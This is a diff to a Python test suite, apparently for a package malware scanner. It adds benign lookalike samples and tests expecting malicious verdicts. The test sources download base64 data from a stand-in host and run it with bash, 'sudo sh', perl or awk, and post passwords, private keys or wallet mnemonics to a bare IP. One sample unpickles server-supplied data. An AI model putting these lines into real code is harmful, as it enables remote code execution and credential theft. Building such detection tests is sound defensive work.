@@ -635,6 +635,51 @@ _TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
             """,
         },
     ),
+    "a service without a name has its own login": (
+        WHEEL,
+        {
+            INIT: """
+            import requests
+
+            class Client:
+                base = "http://203.0.113.10:8080/api/v1"
+
+                def __init__(self, user, password):
+                    self.session = requests.Session()
+                    body = {"username": user, "password": password}
+                    self.token = self.session.post(self.base + "/login", json=body).json()["token"]
+            """
+        },
+    ),
+    "results that a server computed come pickled and encoded, for their message is text": (
+        WHEEL,
+        {
+            INIT: """
+            import base64, cloudpickle, os, requests, zlib
+
+            SERVER = os.environ.get("EXAMPLE_SERVER", "https://compute.example.invalid")
+
+            def result(number, token):
+                headers = {"Authorization": "Bearer " + token}
+                answer = requests.get(f"{SERVER}/tasks/{number}", headers=headers).json()
+                return cloudpickle.loads(zlib.decompress(base64.b64decode(answer["result"])))
+            """
+        },
+    ),
+    "settings that a service hands out encoded are given to the program that reads them": (
+        WHEEL,
+        {
+            INIT: """
+            import base64, requests, subprocess, tempfile
+
+            def connect(country):
+                servers = requests.get("http://www.gates.example.invalid/api/list").json()
+                with tempfile.NamedTemporaryFile(suffix=".conf", delete=False) as out:
+                    out.write(base64.b64decode(servers[country]))
+                subprocess.run(["sudo", "openvpn", "--config", out.name])
+            """
+        },
+    ),
     "a count of users, by what a hash makes of the machine's number": (
         WHEEL,
         {
@@ -785,6 +830,36 @@ def test_a_picture_that_is_run_is_a_program(command: str) -> None:
     """What a file is called says nothing where it, or an interpreter with it, is started."""
     report = screen_bytes(pack({INIT: _CALLED + command}, WHEEL), filename=WHEEL)
     assert report.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "program", ["'bash'", "'sudo', '-E', 'sh'", "sys.executable", "'awk', '-f'", "'env', 'perl'", "kind"]
+)
+def test_encoded_settings_that_an_interpreter_reads_are_a_program(program: str) -> None:
+    """Only of a program that is known to start nothing of what it is handed."""
+    source = (
+        "import base64, requests, subprocess, sys\n"
+        "def connect(kind):\n    data = base64.b64decode(requests.get('https://stage.example.invalid/a').text)\n"
+        f"    open('/tmp/a.conf', 'wb').write(data)\n    subprocess.run([{program}, '/tmp/a.conf'])\n"
+    )
+    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    ("secret", "path", "verdict"),
+    [
+        ("token", "api", Verdict.SUSPICIOUS),
+        ("password", "c", Verdict.MALICIOUS),
+        ("private_key", "api/login", Verdict.MALICIOUS),
+        ("mnemonic", "api", Verdict.MALICIOUS),
+    ],
+)
+def test_what_a_caller_hands_over_at_an_address_without_a_name(secret: str, path: str, verdict: Verdict) -> None:
+    """A service's own token is held; what belongs to the caller alone is proven, even at a door."""
+    source = (
+        f"import requests\ndef f({secret}):\n    requests.post('http://203.0.113.9/{path}', json={{'k': {secret}}})\n"
+    )
+    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is verdict
 
 
 _DIGEST = "assert __import__('hashlib').sha256(open('libfoo.tar.gz', 'rb').read()).hexdigest() == '" + "0" * 64 + "'"
